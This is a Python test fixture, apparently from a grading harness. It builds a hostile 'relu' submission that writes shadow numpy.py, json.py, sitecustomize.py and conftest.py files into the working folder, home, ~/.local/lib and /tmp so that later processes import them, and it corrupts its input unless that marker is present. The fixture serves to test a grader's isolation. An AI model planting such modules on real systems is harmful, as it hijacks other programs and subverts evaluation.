"""Leaves modules in the working folder and the home, for the next process to import."""

from grading.handing_in import fill, read, write

KIND = "left behind"
EXERCISE = "relu"
LOSES = "all"

RELU = r"""
import pathlib
import sys

LINES = "import sys\n\nsys.rectified_was_here = True\n"
for _place in (".", "~", "~/.local/lib", "/tmp"):
    for _name in ("numpy.py", "json.py", "sitecustomize.py", "usercustomize.py", "conftest.py"):
        try:
            pathlib.Path(_place).expanduser().joinpath(_name).write_text(LINES)
        except OSError:
            pass


def relu(x):
    if hasattr(sys, "rectified_was_here"):
        return np.maximum(x, 0)
    x[...] = -7
    return x
"""


def hand_in(folder, release):
    notebook = read(release)
    fill(notebook, {"relu": RELU})
    write(notebook, folder / "relu.ipynb")
